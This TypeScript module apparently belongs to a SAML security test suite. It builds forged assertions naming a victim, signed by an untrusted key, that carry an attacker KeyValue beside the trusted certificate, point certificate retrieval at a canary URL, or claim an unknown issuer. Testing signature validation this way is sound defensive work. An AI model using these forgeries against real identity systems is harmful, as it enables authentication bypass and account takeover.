/** Keys that a message brings along or tells where to find, and identity providers that nobody knows: Core 5.4.5, XML Signature 1.1, 4.5. */

import type { Facts, Mutation } from '../protocol/types.ts';
import { escapeAttribute } from '../protocol/xml.ts';
import { edit, first } from './elements.ts';
import { insertAt } from '../protocol/xml-text.ts';
import { forgedWith } from './signatures.ts';
import { eachAssertion } from './victim.ts';

/** Names the victim, is signed by a stranger, and encloses their key as KeyValue beside the trusted certificate. */
export function keyValueBesideTrusted(position: 'first' | 'last'): Mutation {
  return {
    ...forgedWith({ key: 'stranger', keyInfo: 'keyValue' }),
    afterSigning: (xml, facts) =>
      edit(xml, 'KeyValue', (own) => {
        const trusted = `<X509Data xmlns="http://www.w3.org/2000/09/xmldsig#"><X509Certificate>${facts.idp.certificateBase64}</X509Certificate></X509Data>`;
        return position === 'first' ? own + trusted : trusted + own;
      }),
  };
}

/** Names the victim, is signed by a stranger, and says that the certificate is to be fetched from the canary. */
export function certificateToFetch(): Mutation {
  return {
    ...forgedWith({ key: 'stranger', keyInfo: 'none' }),
    afterSigning: (xml, facts) => {
      const type = 'http://www.w3.org/2000/09/xmldsig#rawX509Certificate';
      const method = `<RetrievalMethod Type="${type}" URI="${escapeAttribute(facts.canaryUrl)}"/>`;
      const info = `<KeyInfo xmlns="http://www.w3.org/2000/09/xmldsig#">${method}</KeyInfo>`;
      return insertAt(xml, first(xml, 'SignatureValue').end, info);
    },
  };
}

/** Somebody whom nobody told of speaks of the victim, signs, and encloses the certificate. */
export function fromStranger(issuer: (facts: Facts) => string): Mutation {
  const signed = forgedWith({ key: 'stranger', keyInfo: 'certificate' });
  return {
    plan: (plan, facts) => {
      const named = eachAssertion(plan, (assertion) => ({ ...assertion, issuer: issuer(facts) }));
      return signed.plan?.({ ...named, issuer: issuer(facts) }, facts) ?? named;
    },
  };
}
